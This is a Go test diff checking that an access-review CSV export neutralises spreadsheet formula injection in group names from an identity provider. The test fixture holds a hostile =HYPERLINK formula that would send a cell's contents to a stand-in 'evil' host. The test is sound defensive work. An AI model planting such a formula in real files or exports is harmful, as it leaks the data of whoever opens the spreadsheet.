@@ -48,3 +48,17 @@ func TestReviewRows(t *testing.T) {
 		t.Errorf("%d CSV records for %d rows", len(recs)-1, len(rows))
 	}
 }
+
+// Names come from the IdP: a group called "=HYPERLINK(…)" must reach the auditor's
+// spreadsheet as text, not as a formula.
+func TestReviewCSVNeutralisesFormulas(t *testing.T) {
+	var b strings.Builder
+	rows := []ReviewRow{{PrincipalType: PrincipalGroup, Principal: `=HYPERLINK("https://evil/?"&A1,"x")`, PrincipalID: "g1",
+		ResourceKind: KindOrganization, Resource: "acme", ResourceID: "o1", Role: RoleOwner, Source: "direct"}}
+	if err := WriteReviewCSV(&b, rows); err != nil {
+		t.Fatal(err)
+	}
+	if got := b.String(); !strings.Contains(got, `"'=HYPERLINK(""https://evil/?""&A1,""x"")"`) {
+		t.Errorf("the formula cell was not neutralised:\n%s", got)
+	}
+}
